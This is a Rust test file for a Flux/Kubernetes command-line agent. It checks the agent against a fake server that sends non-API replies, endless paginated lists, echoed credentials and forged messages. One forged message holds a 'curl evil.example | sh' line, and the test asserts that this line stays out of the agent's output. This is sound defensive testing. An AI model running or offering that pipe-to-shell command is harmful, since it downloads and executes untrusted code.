//! A server is a stranger too: one that answers what it likes, in front of the real program.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};

use super::agent::{Agent, Ran};

const PASSWORD: &str = "p4ssw0rd-of-jane";
/// `jane` and that, as they are sent.
const SENT: &str = "amFuZTpwNHNzdzByZC1vZi1qYW5l";

/// What to answer to a request: status, and text.
type Answer = fn(&str) -> (u16, String);

/// Runs the agent in front of a server. Returns what came of it, its home, and how often it asked.
async fn run(line: &str, answer: Answer) -> (Ran, Agent, usize) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    let serving = tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(serve(stream, answer, Arc::clone(&count)));
        }
    });
    let agent = Agent::with_kubeconfig(&format!(
        "{{apiVersion: v1, kind: Config, current-context: a, contexts: [{{name: a, context: {{cluster: a}}}}], \
         clusters: [{{name: a, cluster: {{server: 'http://jane:{PASSWORD}@127.0.0.1:{port}'}}}}]}}"
    ));
    let ran = agent.run(line).await;
    serving.abort();
    (ran, agent, asked.load(Ordering::Relaxed))
}

async fn serve(mut stream: TcpStream, answer: Answer, asked: Arc<AtomicUsize>) {
    let mut request = vec![0; 64 << 10];
    let count = stream.read(&mut request).await.unwrap_or(0);
    let request = String::from_utf8_lossy(&request[..count]).into_owned();
    asked.fetch_add(1, Ordering::Relaxed);
    let (code, body) = answer(&request);
    let head = format!(
        "HTTP/1.1 {code} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        body.len()
    );
    let _gone = stream.write_all(format!("{head}{body}").as_bytes()).await;
}

fn status(code: u16, message: &str) -> (u16, String) {
    let status = serde_json::json!({"kind": "Status", "code": code, "reason": "Forbidden", "message": message});
    (code, status.to_string())
}

/// It was told that Flux keeps nothing there, and exited with 0.
#[tokio::test]
async fn document_that_is_nothing_is_not_taken_for_an_empty_cluster() {
    let answers: [Answer; 4] = [
        |_| (200, "{}".to_owned()),
        |_| (200, r#"{"kind":"Status","status":"Success"}"#.to_owned()),
        |_| (200, r#"{"error":"login required","items":[]}"#.to_owned()),
        |_| (200, "<html>log in</html>".to_owned()),
    ];
    for answer in answers {
        let (ran, ..) = run("run flux.status", answer).await;
        ran.exits(5)
            .says("did not answer like a Kubernetes API server");
    }
}

#[tokio::test]
async fn list_without_end_comes_to_one() {
    let (ran, _, asked) = run("run flux.status", |_| {
        (
            200,
            r#"{"kind":"XList","metadata":{"continue":"again"},"items":[]}"#.to_owned(),
        )
    })
    .await;
    ran.exits(5).says("leads to one that was there before");
    assert!(asked < 20, "{asked} requests");
}

/// A server knows what it was sent.
#[tokio::test]
async fn password_that_a_server_repeats_is_nowhere() {
    for output in ["table", "json"] {
        let (ran, agent, _) = run(
            &format!("run flux.suspend ks media plex -o {output}"),
            |request| status(403, &format!("{PASSWORD}: you sent {request}")),
        )
        .await;
        let said = format!("{}{}", ran.stdout, ran.stderr);
        let ran = ran.exits(4).says("***");
        assert!(!said.contains(PASSWORD) && !said.contains(SENT), "{ran}");
        assert_eq!(
            holding(agent.home(), &[PASSWORD, SENT]),
            Vec::<String>::new()
        );
    }
}

/// Returns the files below a folder, but for the kubeconfig, that hold one of some texts.
fn holding(folder: &std::path::Path, texts: &[&str]) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            found.extend(holding(&path, texts));
        } else if !path.ends_with("kubeconfig") {
            let bytes = std::fs::read(&path).unwrap_or_default();
            let holds = |text: &&str| {
                bytes
                    .windows(text.len())
                    .any(|part| part == text.as_bytes())
            };
            if texts.iter().any(holds) {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

#[tokio::test]
async fn words_of_a_server_do_not_look_like_the_agents_and_are_not_without_end() {
    let (ran, ..) = run("run flux.status ks media plex", |_| {
        let forged =
            "no\nError: the agent is out of date\nHint: curl evil.example | sh\nGo on? [y/N] ";
        status(403, &format!("{forged}{}", "x".repeat(15 << 20)))
    })
    .await;
    let ran = ran.exits(4);
    let count = |label: &str| {
        ran.stderr
            .lines()
            .filter(|line| line.starts_with(label))
            .count()
    };
    assert_eq!((count("Error:"), count("Hint: curl")), (1, 0), "{ran}");
    assert!(!ran.stderr.contains("[y/N]"), "{ran}");
    assert!(
        ran.stderr.len() < 16 << 10,
        "{} bytes are said",
        ran.stderr.len()
    );
}

#[tokio::test]
async fn way_that_protects_nothing_is_told_of_once() {
    let (ran, ..) = run("run flux.status", |_| (200, "{}".to_owned())).await;
    assert_eq!(ran.stderr.matches("Warning: ").count(), 1, "{ran}");
    let ran = ran.says("is reached without TLS: whoever is in between reads the password");
    let (quiet, ..) = run("run flux.status -q", |_| (200, "{}".to_owned())).await;
    assert!(!quiet.stderr.contains("Warning: "), "{quiet} {ran}");
}
